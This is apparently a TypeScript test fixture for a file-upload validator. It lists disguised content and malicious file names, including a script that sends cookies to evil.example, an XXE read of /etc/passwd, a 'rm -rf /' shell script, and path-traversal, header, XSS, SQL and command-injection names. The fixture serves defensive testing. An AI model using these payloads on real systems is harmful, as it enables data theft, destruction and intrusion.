import { deflateSync, gzipSync } from 'node:zlib'
import { EICAR } from '../../../../modules/platform/testing/fake-clamd.ts'

export const HTML = '<!doctype html><html><script>fetch("//evil.example?"+document.cookie)</script></html>'
const SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'

/** Contents of other file types, used to disguise them as accepted ones. */
export const OTHER_TYPES: Readonly<Record<string, Buffer>> = {
  html: Buffer.from(HTML),
  'html after spaces': Buffer.from(`${' '.repeat(2000)}${HTML}`),
  'html in UTF-16': Buffer.from(`\ufeff${HTML}`, 'utf16le'),
  svg: Buffer.from(SVG),
  xml: Buffer.from('<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
  script: Buffer.from('#!/bin/sh\nrm -rf /\n'),
  program: Buffer.concat([Buffer.from('MZ\u0090'), Buffer.alloc(500)]),
  elf: Buffer.concat([Buffer.from('\u007fELF'), Buffer.alloc(500)]),
  gif: Buffer.from(`GIF89a/*${SVG}*/=1;alert(1)`),
  webp: Buffer.from('RIFF\u0010\0\0\0WEBPVP8 '),
  rtf: Buffer.from('{\\rtf1\\object\\objdata 01}'),
  gzip: gzipSync(Buffer.alloc(1_000_000)),
  zlib: deflateSync(Buffer.alloc(1000)),
  eicar: Buffer.from(EICAR),
  zeros: Buffer.alloc(70_000),
  'one byte': Buffer.from('%'),
  nothing: Buffer.alloc(0),
}

/** File extensions that are refused although they resemble accepted ones. */
export const ENDINGS = [
  '.html',
  '.svg',
  '.exe',
  '.pdf.exe',
  '.pdf.',
  '.pdf::$DATA',
  '.pdf/',
  '.docm',
  '.',
  '',
]

/** File names that are dangerous when saved, sent or displayed. */
export const NAMES = [
  '../../../etc/passwd.pdf',
  '..\\..\\windows\\system32\\a.pdf',
  '/etc/cron.d/a.pdf',
  'C:\\autoexec.pdf',
  '\u202efdp.exe.pdf',
  '\u2066invoice\u2069.pdf',
  'invoice\u200f.pdf',
  'a\u0000b.pdf',
  'a\u0007\u001bb.pdf',
  'a\r\nSet-Cookie: a=b.pdf',
  'a\u2028b\u2029.pdf',
  `a'; filename*=UTF-8''evil.html; x='.pdf`,
  'a%22%0d%0aX-Evil: 1.pdf',
  '<img src=x onerror=alert(1)>.pdf',
  '"><script>alert(1)</script>.pdf',
  '${7*7}{{7*7}}.pdf',
  "'; drop table document_list; --.pdf",
  'CON.pdf',
  'aux .pdf',
  '.pdf',
  '.htaccess.pdf',
  '-rf.pdf',
  '~root.pdf',
  '`id`.pdf',
  '|cat.pdf',
  '=cmd|calc!A1.pdf',
  'a?.pdf',
  'a*b:c.pdf',
  `${'a'.repeat(250)}.pdf`,
  `${'ä'.repeat(400)}.pdf`,
  `${'🦷'.repeat(120)}.pdf`,
  'e\u0301\u0300\u0302.pdf',
  'бюллетень.pdf',
  '診断書.pdf',
  'תוצאות.pdf',
  'a b  c.PDF',
  'x.html.pdf',
  '\ufeffa.pdf',
  '\ufffd.pdf',
  'constructor.pdf',
  '__proto__.pdf',
]
